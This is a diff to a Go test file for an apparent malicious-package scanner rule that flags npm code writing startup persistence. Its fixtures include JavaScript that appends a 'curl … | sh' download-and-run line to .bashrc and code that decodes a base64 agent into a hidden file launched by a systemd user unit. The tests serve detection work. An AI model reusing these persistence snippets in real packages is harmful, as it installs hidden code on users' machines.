@@ -11,6 +11,15 @@ func TestStartupEntry(t *testing.T) {
 	rt.Check(t, StartupEntry{}, []rt.Case{
 		{"bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
 		{"bashrc_download_exec", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n")`}, finding.SeverityCritical},
+		// a user unit starting an agent the package decodes from data it
+		// ships: critical on require, not only at install time
+		{"systemd_unit_decoded_agent", map[string]string{"lib/d.js": `const fs = require("fs"), path = require("path"), os = require("os"); const raw = require("../data/d.json");
+function register(tpl) { const dir = path.join(os.homedir(), ".config", "systemd", "user"); const script = path.join(os.homedir(), ".local", "share", ".s.js");
+  fs.writeFileSync(script, Buffer.from(tpl, "base64").toString()); fs.writeFileSync(path.join(dir, "s.service"), "[Service]\nExecStart=node " + script) }
+register(raw.t)`}, finding.SeverityCritical},
+		// a unit generator that encodes a name, decoding nothing
+		{"systemd_unit_encodes_name", map[string]string{"lib/d.js": `const fs = require("fs"), path = require("path"), os = require("os");
+exports.install = (name, cmd) => { const id = Buffer.from(name).toString("base64"); fs.writeFileSync(path.join(os.homedir(), ".config", "systemd", "user", name + ".service"), "[Service]\nExecStart=" + cmd + "\nEnvironment=ID=" + id) }`}, finding.SeverityHigh},
 		// shell completion installers add a source line, not a download
 		{"bashrc_completion", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\n[ -f ~/.config/tabtab/__tabtab.bash ] && . ~/.config/tabtab/__tabtab.bash\n")`}, finding.SeverityHigh},
 		// the same after asking the user on the terminal
